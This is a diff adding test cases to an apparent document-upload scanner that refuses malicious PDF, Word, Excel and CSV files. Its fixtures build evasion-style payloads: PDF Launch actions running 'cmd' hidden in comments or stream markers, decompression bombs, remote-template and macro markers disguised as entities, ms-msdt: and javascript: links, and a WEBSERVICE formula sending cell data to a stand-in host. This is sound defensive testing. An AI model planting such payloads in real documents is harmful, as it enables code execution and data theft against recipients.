@@ -207,6 +207,52 @@ describe('refuses', () => {
       () => Buffer.concat([pdf(), archive({ 'a.txt': 'x' })]),
       /arsip ZIP/,
     ],
+    [
+      'a PDF with a program hidden behind a bracket in a comment',
+      'a.pdf',
+      () => pdf({ objects: ['<<>> %(', '<</S/Launch/F<636d64>>> %)'] }),
+      /menjalankan/,
+    ],
+    [
+      'a PDF with a program between the signs of a stream',
+      'a.pdf',
+      () => pdf({ objects: ['<<>> %stream', '<</S/Launch/F<636d64>>> %endstream'] }),
+      /menjalankan/,
+    ],
+    [
+      'a PDF with a program hidden behind a bracket that is never closed',
+      'a.pdf',
+      () => pdf({ catalog: '/OpenAction 12 0 R', objects: ['(', '<<>>', '<</S/Launch/F<636d64>>>'] }),
+      /menjalankan/,
+    ],
+    [
+      'a PDF with objects that are compressed otherwise',
+      'a.pdf',
+      () =>
+        pdf({
+          objects: [
+            '<</Type/ObjStm/N 1/First 5/Filter/ASCIIHexDecode/Length 8>> stream\n3132203c>\nendstream',
+          ],
+        }),
+      /tidak dapat diperiksa/,
+    ],
+    [
+      'a PDF with compressed objects that unfold without end',
+      'a.pdf',
+      () => {
+        const objects = deflateSync(Buffer.alloc(60_000_000, 32)).toString('latin1');
+        return pdf({
+          objects: [`<</Type/ObjStm/N 1/First 5/Filter/FlateDecode>> stream\n${objects}\nendstream`],
+        });
+      },
+      /tidak dapat diperiksa/,
+    ],
+    [
+      'a PDF that opens a file of another computer',
+      'a.pdf',
+      () => pdf({ catalog: '/OpenAction<</S/GoToR/F(\\\\\\\\x.example\\\\a.pdf)/D[0 /Fit]>>' }),
+      /berkas lain/,
+    ],
     ['half a PDF', 'a.pdf', () => '%PDF-1.7\nhai', /utuh/],
     ['a Word file with macros', 'a.docx', () => docx([], { 'word/vbaProject.bin': 'x' }), /makro/],
     [
@@ -256,6 +302,52 @@ describe('refuses', () => {
             '<Relationship TargetMode="External" Type="http://x/image" Target="https://x.example/a.png"/>',
         }),
       /alamat lain/,
+    ],
+    [
+      'a Word file with a template from elsewhere, written as entities',
+      'a.docx',
+      () =>
+        docx([], {
+          'word/_rels/settings.xml.rels':
+            "<Relationship Type='http://x/attachedTemplate' Target='https://x.example/a.dotm' TargetMode='&#69;xternal'/>",
+        }),
+      /alamat lain/,
+    ],
+    [
+      'a Word file with macros, written as entities',
+      'a.docx',
+      () =>
+        docx([], {
+          '[Content_Types].xml':
+            '<Types><Default ContentType="application/vnd.ms-word.document.macro&#x45;nabled.main+xml"/></Types>',
+        }),
+      /makro/,
+    ],
+    [
+      'a Word file with a page of HTML in it',
+      'a.docx',
+      () =>
+        docx([], {
+          'word/_rels/document.xml.rels': '<Relationship Type="http://x/aFChunk" Target="/word/a.mht"/>',
+        }),
+      /alamat lain/,
+    ],
+    ...['file://x.example/a', '\\\\x.example\\a', 'javascript:x', 'ms-msdt:x'].map(
+      (target): [string, string, () => Uint8Array, RegExp] => [
+        `a Word file with a link to ${target}`,
+        'a.docx',
+        () =>
+          docx([], {
+            'word/_rels/document.xml.rels': `<Relationship Type="http://x/hyperlink" Target="${target}" TargetMode="External"/>`,
+          }),
+        /tautan/,
+      ],
+    ),
+    [
+      'an Excel file that calls a server',
+      'a.xlsx',
+      () => xlsx('<c><f>_xlfn.WEBSERVICE("https://x.example/"&amp;A1)</f><v>1</v></c>'),
+      /rumus/,
     ],
     [
       'a Word file with DDE',
@@ -340,11 +432,37 @@ describe('accepts', () => {
     ['a text that speaks of DDE', 'a.docx', () => docx([run('Serangan DDE lewat dokumen')])],
     ['figures of Excel', 'a.xlsx', () => xlsx('<c><v>601561</v></c><c><v>1.5E3</v></c><c><v>-12.5</v></c>')],
     ['a CSV table with negative numbers', 'a.csv', () => 'a,b,c\n-1,+2,"-3,5"\n-,+5%,0\n'],
+    ['a CSV table with telephone numbers', 'a.csv', () => 'Kantor,+62 762 20000\n"KPU",(0762) 20000\n'],
+    [
+      'a PDF with brackets and per cent signs in its text',
+      'a.pdf',
+      () => pdf({ objects: ['<</Title(50% \\( \\) (dalam) /JS)>>'], trailer: '/Info 10 0 R' }),
+    ],
+    [
+      'an Excel file with formulas',
+      'a.xlsx',
+      () => xlsx('<c><f>SUM(A1:A9)</f><v>12</v></c><c><f>IFERROR(A1/B1,0)</f><v>1</v></c>'),
+    ],
     ['a telephone of the office', 'a.csv', () => 'Telepon,0762-20000\n'],
   ];
   test.for(cases)('%s', async ([, name, bytes]) => {
     expect(await check(name, bytes())).toEqual([]);
   });
+});
+
+test.for(
+  Object.entries({
+    'a PDF of streams': ['a.pdf', `%PDF-1.7\n${'stream\n'.repeat(300_000)}`],
+    'a PDF of brackets': ['a.pdf', `%PDF-1.7\n${'('.repeat(2_000_000)}`],
+    'a PDF of comments': ['a.pdf', `%PDF-1.7\n${'%'.repeat(2_000_000)}`],
+    'a CSV table of blanks': ['a.csv', `a,${' '.repeat(2_000_000)}=1`],
+    'a CSV table of quotation marks': ['a.csv', '" '.repeat(1_000_000)],
+    'a Word file of less-than signs': ['a.docx', docx(['<'.repeat(2_000_000)])],
+    'a Word file of fields': ['a.docx', docx(['<w:instrText '.repeat(150_000)])],
+    'an Excel file of formulas': ['a.xlsx', xlsx('<f '.repeat(500_000))],
+  } satisfies Record<string, [string, string | Uint8Array]>),
+)('reads %s to its end', { timeout: 15_000 }, async ([, [name, bytes]]) => {
+  expect(await check(name, bytes)).toBeInstanceOf(Array);
 });
 
 test('a mobile number in a file only warns', async () => {
